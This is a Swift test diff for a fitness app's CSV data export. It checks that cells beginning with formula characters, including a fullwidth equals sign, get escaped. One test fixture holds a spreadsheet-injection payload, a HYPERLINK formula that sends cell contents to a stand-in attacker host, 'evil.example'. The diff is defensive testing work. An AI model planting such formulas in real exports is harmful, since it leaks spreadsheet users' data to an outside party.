@@ -128,7 +128,7 @@ struct DataExportTests {
         "/v1/lifters/me/workouts",
         [
           "name": "=HYPERLINK(\"http://evil.example/?\"&A1)", "performed_at": "2026-01-05T18:00:00Z",
-          "notes": "-2+3", "exercises": [["name": "@SUM(1+1)", "sets": [["reps": 5, "notes": "'+1"]]]],
+          "notes": "＝2+3", "exercises": [["name": "@SUM(1+1)", "sets": [["reps": 5, "notes": "'+1"]]]],
         ]
       ).expect(201)
       try await anna.send("POST", "/v1/data-exports").expect(201)
@@ -136,7 +136,9 @@ struct DataExportTests {
       let table = try await anna.archive()["workouts.csv"]
       let row = try #require(table.split(separator: "\r\n").last)
       #expect(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",'@SUM(1+1),"))
-      #expect(row.contains(",''+1,'-2+3,"))
+      #expect(row.contains(",''+1,'＝2+3,"))
+      let cells = try server.database.rows("select app.csv_cell('＝1'), app.csv_cell('-1')")
+      #expect(cells == [["\"'＝1\"", "\"'-1\""]])
       let berta = try await server.person("berta", as: "lifter")
       try await berta.send("POST", "/v1/lifters/me/imports", type: "text/csv", Array(table.utf8)).expect(201)
       #expect(try await anna.log(of: server) == berta.log(of: server))
